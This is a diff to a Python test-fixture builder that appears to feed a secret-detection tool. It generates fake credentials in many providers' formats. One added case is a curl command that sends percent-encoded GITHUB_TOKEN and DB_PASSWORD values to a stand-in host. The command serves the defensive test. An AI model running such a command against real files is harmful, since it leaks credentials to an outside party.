@@ -193,6 +193,26 @@ def _build() -> dict[str, tuple[str, list[str]]]:
     # age 1.3's post-quantum identity (age-keygen -pq)
     a = _r(UPPER, 62)
     k["age-pq"] = (f"the key is AGE-SECRET-KEY-PQ-1{a} for now", [a])
+    # a .env sent percent-encoded (a form body, curl --data-urlencode): `%3D` glues a token's prefix
+    # to a word and hides the `=` of the assignment (session 13)
+    a, b = _r(ALNUM, 36), _r(ALNUM, 16)
+    k["urlencoded-env"] = (f"curl -d 'env=GITHUB_TOKEN%3Dghp_{a}%0ADB_PASSWORD%3D{b}%0A' https://x.example/h", [a, b])
+    # provider formats an agent meets (session 13), said in prose where no `name=` rule reaches them
+    said = {
+        "pinecone": ("pcsk_" + _r(ALNUM, 6) + "_", ALNUM, 64), "tavily": ("tvly-dev-", ALNUM, 32),
+        "firecrawl": ("fc-", HEX, 32), "e2b": ("e2b_", HEX, 40), "together": ("tgp_v1_", URLSAFE, 43),
+        "elevenlabs": ("sk_", HEX, 48), "mapbox": ("sk.eyJ1IjoiZGVqYSIsImEiOiJ", ALNUM, 24),
+        "prefect": ("pnu_", ALNUM, 36), "rubygems": ("rubygems_", HEX, 48), "buildkite": ("bkua_", HEX, 40),
+        "hubspot": ("pat-na1-", HEX, 8), "square": ("EAAA", URLSAFE, 60), "square-oauth": ("sq0csp-", URLSAFE, 43),
+    }
+    for name, (prefix, alphabet, n) in said.items():
+        v = _r(alphabet, n)
+        tail = {"mapbox": "." + _r(URLSAFE, 22), "hubspot": f"-{_r(HEX, 4)}-{_r(HEX, 4)}-{_r(HEX, 4)}-{_r(HEX, 12)}"}.get(name, "")
+        k[name] = (f"the key is {prefix}{v}{tail} for now", [v])
+    a, b = _r(ALNUM, 22), _r(HEX, 40)
+    k["circleci"] = (f"the key is CCIPAT_{a}_{b} for now", [a, b])
+    a = _r(ALNUM + "_~.-", 34)
+    k["entra-client-secret"] = (f"the client secret is Xy78Q~{a} for now", [a])
     return k
 
 
